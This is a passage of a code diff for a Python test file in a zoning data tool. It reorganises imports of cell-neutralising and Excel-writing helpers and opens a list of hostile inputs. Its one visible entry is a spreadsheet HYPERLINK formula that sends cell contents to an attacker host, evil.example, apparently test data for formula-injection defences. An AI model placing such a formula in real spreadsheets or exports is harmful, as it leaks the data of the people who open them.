@@ -19,17 +19,15 @@ from openpyxl import load_workbook
 
 from zoning.errors import OutputError, OutputInterruptedError
 from zoning.io.atomic import atomic_open, atomic_path, check_output, write_text
+from zoning.io.cells import excel_value, neutralise, neutralise_frame
 from zoning.io.write import (
     TableWriter,
-    excel_value,
-    neutralise,
-    neutralise_frame,
     write_csv,
-    write_excel,
     write_frame_csv,
     write_geojson,
     write_parquet,
 )
+from zoning.io.xlsx import write_excel
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1;"clic")',
